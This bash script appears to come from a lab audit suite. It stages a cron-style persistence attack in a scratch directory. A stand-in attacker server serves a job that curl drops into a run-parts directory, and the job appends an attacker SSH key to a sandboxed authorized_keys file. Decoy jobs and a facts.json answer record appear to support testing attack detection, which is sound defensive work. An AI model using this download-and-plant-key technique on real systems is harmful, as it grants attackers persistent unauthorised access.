#!/usr/bin/env bash
# Cron-like persistence: a scheduler runs every job in a jobs directory with run-parts every
# half second. The attacker downloads a job into that directory; at its next run the job adds a
# key to authorized_keys. A benign job that runs in the same directory, before the attacker's,
# reads authorized_keys and writes its own log; a later benign job rewrites the keys file.
#   scripts/lab/audit/persistence.sh WORKDIR NONCE
. "$(dirname "$0")/lib.sh"
work=$(realpath -m "$1"); nonce=$2
mkdir -p "$work"/{srv,jobs,var,victim}
sched_pid=
attacker_host 4
trap 'cleanup $http_pid $sched_pid' EXIT
background_noise "$work"

cat > "$work/jobs/10-rotate" <<JOB
#!/bin/sh
wc -l $work/victim/authorized_keys >> $work/var/rotate.log
JOB
chmod +x "$work/jobs/10-rotate"
cat > "$work/srv/50-update" <<JOB
#!/bin/sh
grep -q attacker-$nonce $work/victim/authorized_keys 2>/dev/null ||
    echo "ssh-ed25519 AAAAevil attacker-$nonce" >> $work/victim/authorized_keys
JOB
echo "ssh-ed25519 AAAAgood admin" > "$work/victim/authorized_keys"
start_http "$work/srv"

# The scheduler: a bounded loop (at most 60 rounds).
(for _ in $(seq 60); do run-parts "$work/jobs"; sleep 0.5; done) &
sched_pid=$!
sleep 1.2

# The attack: the job is dropped in place; the scheduler runs it.
curl -s -o "$work/jobs/50-update" "$url/50-update"
chmod 755 "$work/jobs/50-update"
for _ in $(seq 50); do
    grep -q "attacker-$nonce" "$work/victim/authorized_keys" && break
    sleep 0.1
done
grep -q "attacker-$nonce" "$work/victim/authorized_keys"
settle
detect_at=$(now)
settle

# After detection: a benign key sync rewrites the file.
sh -c "echo 'ssh-ed25519 AAAAsync admin' >> $work/victim/authorized_keys"
settle
kill "$sched_pid" 2>/dev/null || true
wait "$sched_pid" 2>/dev/null || true

cat > "$work/facts.json" <<JSON
{
  "scenario": "persistence",
  "damaged": $(json_str "$work/victim/authorized_keys"),
  "detect_at": $detect_at,
  "entry": "socket:$atk_ip:$http_port",
  "chain": $(json_list "50-update http" "/bin/sh $work/jobs/50-update"),
  "decoys": $(json_list "10-rotate" "rotate.log" "AAAAsync"),
  "modified": $(json_list "$work/jobs/50-update" "$work/victim/authorized_keys")
}
JSON
end_marker "$nonce"
